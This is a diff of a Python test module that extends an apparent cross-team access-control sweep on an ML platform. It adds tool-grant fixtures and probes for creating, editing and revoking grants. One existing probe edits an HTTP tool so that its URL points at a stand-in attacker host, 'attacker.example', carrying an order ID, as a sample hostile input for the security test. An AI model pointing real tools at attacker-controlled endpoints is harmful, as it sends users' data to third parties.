@@ -45,7 +45,7 @@ from datasets_app.models import DatasetVersion
 from serving_app.models import ArenaBattle, Comparison, Deployment, PlaygroundVote, PromptPreset
 from tests.factories import finished_job, http_tool_form, member, ready_version, sample_tool, sql_tool_form
 from tests.routes import API_ROOT, api_team_operations, page_team_routes, team_state
-from tools_app.models import Tool
+from tools_app.models import Tool, ToolGrant
 from training_app import presets
 from training_app.models import BaseModel, ModelVersion, TrainingJob
 
@@ -79,6 +79,7 @@ class TeamObjects:
     preset: PromptPreset
     battle: ArenaBattle  # an owner's arena battle, not voted yet
     tool: Tool  # an HTTP tool
+    grant: ToolGrant  # the tool granted to the deployment, triggered by the key
 
 
 def _nothing(objects: TeamObjects) -> dict[str, Any]:
@@ -151,6 +152,15 @@ def _preset_id(o: TeamObjects) -> dict[str, Any]:
 
 def _tool_id(o: TeamObjects) -> dict[str, Any]:
     return {"tool_id": o.tool.pk}
+
+
+def _grant_id(o: TeamObjects) -> dict[str, Any]:
+    return {"tool_id": o.tool.pk, "grant_id": o.grant.pk}
+
+
+def _grant_body(o: TeamObjects) -> dict[str, Any]:
+    return {"deployment": o.deployment.pk, "roles": ["viewer"], "api_keys": [o.key.pk], "approval": "never",
+            "argument_constraints": ""}  # fmt: skip
 
 
 def _launch(o: TeamObjects) -> dict[str, Any]:
@@ -318,6 +328,9 @@ SWEEP: dict[Route, Probe] = {
     "tools:detail": Probe(params=_tool_id),
     "tools:edit": Probe(params=_tool_id, body=lambda o: http_tool_form(url="https://attacker.example/{order_id}")),
     "tools:delete": Probe(params=_tool_id),
+    "tools:grant_new": Probe(params=_tool_id, body=_grant_body),
+    "tools:grant_edit": Probe(params=_grant_id, body=_grant_body),
+    "tools:grant_revoke": Probe(params=_grant_id),
     ("POST", "/api/v1/teams/{slug}/playground/feedback/export"): Probe(),
 }
 
@@ -395,10 +408,13 @@ def make_team_objects(team: Team, owner: Any, member_user: Any) -> TeamObjects:
         team=team, user=owner, model=f"version:{model_version.pk}", model_label=str(model_version),
         prompt=[{"role": "user", "content": "Hi"}], answer="Hello!", label=True, fingerprint=f"{team.slug}-vote",
     )  # fmt: skip
+    tool = sample_tool(team, owner, name=f"{team.slug}_lookup")
+    grant = ToolGrant.objects.create(team=team, deployment=deployment, tool=tool, created_by=owner)
+    ToolGrant.api_keys.through.objects.create(toolgrant=grant, teamapikey=key)
     return TeamObjects(
         team=team, member=membership, invitation=invitation, key=key, version=version, model=model, job=job,
         model_version=model_version, deployment=deployment, comparison=comparison, preset=preset, battle=battle,
-        tool=sample_tool(team, owner, name=f"{team.slug}_lookup"),
+        tool=tool, grant=grant,
     )  # fmt: skip
 
 
@@ -413,7 +429,7 @@ def placeholder_objects() -> TeamObjects:
         key=TeamAPIKey(pk=1, team=team), version=version, model=BaseModel(pk=1, team=team),
         job=TrainingJob(pk=1, team=team), model_version=model_version, deployment=Deployment(pk=1, team=team),
         comparison=Comparison(pk=1, team=team), preset=PromptPreset(pk=1, team=team),
-        battle=ArenaBattle(pk=1, team=team), tool=Tool(pk=1, team=team),
+        battle=ArenaBattle(pk=1, team=team), tool=Tool(pk=1, team=team), grant=ToolGrant(pk=1, team=team),
     )  # fmt: skip
 
 
